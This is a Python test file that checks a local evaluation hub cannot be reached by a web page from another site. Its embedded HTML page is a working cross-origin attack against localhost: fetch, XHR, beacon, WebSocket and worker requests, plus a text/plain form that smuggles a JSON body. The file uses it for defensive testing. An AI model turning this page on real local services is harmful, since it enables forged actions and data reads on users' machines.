"""A web page must not reach the local hub by any means.

The same page against a hub without our protection shows that the page would succeed.
"""

import json
import os
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import anyio
import httpx
import pytest

from evalhub_mcp.local.hub.find_or_start import _hub_binary

CHROMIUM = next(
    filter(
        None,
        map(
            shutil.which,
            ("chromium", "chromium-browser", "google-chrome", "chrome-headless-shell"),
        ),
    ),
    None,
)

pytestmark = [
    pytest.mark.anyio,
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on PATH; install one to run this"),
]

PAGE = """<!doctype html><meta charset="utf-8"><title>A page</title><body><script>
const hubs = HUBS;
const body = name => JSON.stringify({name, benchmarks: [{id: "b", name: "b"}]});
const report = [];
const within = (what, work) => Promise.race([
  work.then(r => report.push([what, "ok", String(r)]),
    e => report.push([what, "error", String(e)])),
  new Promise(done => setTimeout(() => { report.push([what, "timeout", ""]); done(); }, 4000)),
]);
const element = (tag, set) => new Promise((ok, bad) => {
  const e = document.createElement(tag);
  e.onload = () => ok("loaded"); e.onerror = () => bad("error");
  set(e); document.body.append(e);
});
async function all() {
  for (const hub of hubs) {
    const providers = hub + "/api/v1/evaluations/providers";
    const jobs = hub + "/api/v1/evaluations/jobs";
    for (const mode of ["cors", "no-cors", "same-origin"]) {
      for (const type of ["text/plain", "application/json"])
        await within(`POST ${mode} ${type} ${hub}`, fetch(providers, {method: "POST", mode,
          headers: {"Content-Type": type}, body: body(`fetch-${mode}`)}).then(r => r.text()));
      for (const credentials of ["omit", "include"])
        await within(`GET ${mode} ${credentials} ${hub}`,
          fetch(jobs, {mode, credentials}).then(r => r.text()));
    }
    await within(`keepalive ${hub}`, fetch(providers, {method: "POST", mode: "no-cors",
      keepalive: true, body: body("keepalive")}).then(r => r.type));
    await within(`DELETE ${hub}`, fetch(jobs + "/x", {method: "DELETE"}).then(r => r.status));
    await within(`XHR ${hub}`, new Promise((ok, bad) => {
      const x = new XMLHttpRequest(); x.open("POST", providers);
      x.onload = () => ok(x.responseText); x.onerror = () => bad("error"); x.send(body("xhr"));
    }));
    await within(`beacon ${hub}`, new Promise(ok => {
      navigator.sendBeacon(providers, body("beacon")); setTimeout(() => ok("sent"), 300);
    }));
    await within(`form ${hub}`, new Promise(ok => {
      const frame = document.createElement("iframe"); frame.name = "f" + Math.random();
      const form = document.createElement("form"); const input = document.createElement("input");
      form.action = providers; form.method = "POST"; form.enctype = "text/plain";
      form.target = frame.name;
      // text/plain makes this "name=value", which is the whole JSON document.
      input.name = '{"name":"form","benchmarks":[{"id":"b","name":"b"}],"description":"';
      input.value = '"}';
      form.append(input); document.body.append(frame, form); form.submit();
      setTimeout(() => ok("sent"), 700);
    }));
    await within(`img ${hub}`, element("img", e => e.src = jobs));
    await within(`script ${hub}`, element("script", e => e.src = jobs));
    await within(`style ${hub}`, element("link", e => { e.rel = "stylesheet"; e.href = jobs; }));
    await within(`frame ${hub}`, new Promise((ok, bad) => {
      const e = document.createElement("iframe"); e.src = jobs; document.body.append(e);
      e.onload = () => { try { ok(e.contentDocument.body.innerText); } catch (x) { bad(x); } };
    }));
    await within(`socket ${hub}`, new Promise((ok, bad) => {
      const s = new WebSocket(hub.replace("http", "ws") + "/api/v1/evaluations/jobs");
      s.onopen = () => ok("open"); s.onerror = () => bad("error");
    }));
    await within(`events ${hub}`, new Promise((ok, bad) => {
      const s = new EventSource(jobs); s.onopen = () => ok("open");
      s.onerror = () => { s.close(); bad("error"); };
    }));
    await within(`worker ${hub}`, new Promise((ok, bad) => {
      const code = `fetch(${JSON.stringify(jobs)}).then(r => r.text()).then(postMessage,
        e => { throw e; })`;
      const w = new Worker(URL.createObjectURL(new Blob([code])));
      w.onmessage = m => ok(m.data); w.onerror = () => bad("error");
      setTimeout(() => bad("no answer"), 1500);
    }));
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
}
all();
</script>"""


class Site:
    """Another site's page, and what it reported back."""

    def __init__(self, hubs: list[str]) -> None:
        self.done = threading.Event()
        self.report: list[list[str]] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                page = PAGE.replace("HUBS", json.dumps(hubs)).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                site.report = json.loads(body)
                self.send_response(204)
                self.end_headers()
                site.done.set()

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)

    @contextmanager
    def served(self) -> Iterator[str]:
        thread = threading.Thread(target=self.server.serve_forever, args=(0.05,))
        thread.start()
        try:
            yield f"http://another-site.example:{self.server.server_port}/"
        finally:
            self.server.shutdown()
            thread.join()
            self.server.server_close()


async def visit(tmp_path: Path, hubs: list[str]) -> list[list[str]]:
    """Let a fresh browser open the page; what the page reports of its attempts."""
    assert CHROMIUM is not None
    site = Site(hubs)
    with site.served() as url:
        browser = subprocess.Popen(
            [
                CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
                "--disable-dev-shm-usage", "--no-first-run", "--disable-background-networking",
                "--disable-component-update", "--disable-sync",
                "--host-resolver-rules=MAP another-site.example 127.0.0.1",
                f"--user-data-dir={tmp_path / 'browser'}", url,
            ],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )  # fmt: skip
        try:
            assert await anyio.to_thread.run_sync(site.done.wait, 90), "the page did not finish"
        finally:
            os.killpg(browser.pid, 9)
            browser.wait()
    return site.report


def names(providers: dict) -> set[str]:
    return {one["name"] for one in providers["items"]}


async def test_page_cannot_reach_the_local_hub(bench, tmp_path):
    port = httpx.URL(bench.endpoint.base_url).port
    job_id = await bench.caller.submit("completes")
    await bench.caller.finished(job_id)
    report = await visit(
        tmp_path,
        [f"{scheme}127.0.0.1:{port}" for scheme in ("https://", "http://")]
        + [f"https://localhost:{port}"],
    )
    # Every attempt was made, and neither made nor showed anything.
    assert len({what for what, _, _ in report}) == 3 * 24
    assert names(await bench.caller.get("evaluations/providers")) == {"Playing"}
    assert job_id not in json.dumps(report)
    readable = [one for one in report if one[1] == "ok" and "total_count" in one[2]]
    assert readable == []


async def test_the_same_page_reaches_a_hub_without_protection(tmp_path, tools):
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    config = {
        "service": {
            "host": "127.0.0.1",
            "port": port,
            "termination_file": str(tmp_path / "termination-log"),
        },
        "database": {"driver": "sqlite", "url": f"file:{tmp_path}/evalhub.db"},
        "prometheus": {"enabled": False},
        "otel": {"enabled": False},
    }
    (tmp_path / "config.yaml").write_text(json.dumps(config))
    # No `sh` on its PATH: nothing can be run by this hub.
    hub = subprocess.Popen(
        [_hub_binary()[0], "-local", "-configdir", tmp_path],
        env={"PATH": str(tmp_path)},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    caller = tools.Caller(f"http://127.0.0.1:{port}")
    try:
        with anyio.fail_after(10):
            while True:
                try:
                    await caller.get("health")
                    break
                except httpx.ConnectError:
                    await anyio.sleep(0.05)
        report = await visit(tmp_path, [f"http://127.0.0.1:{port}"])
        made = names(await caller.get("evaluations/providers"))
        assert made >= {"fetch-cors", "fetch-no-cors", "keepalive", "xhr", "beacon", "form"}
        assert any(one[1] == "ok" and "total_count" in one[2] for one in report)
    finally:
        hub.terminate()
        hub.wait(10)
        await caller.aclose()
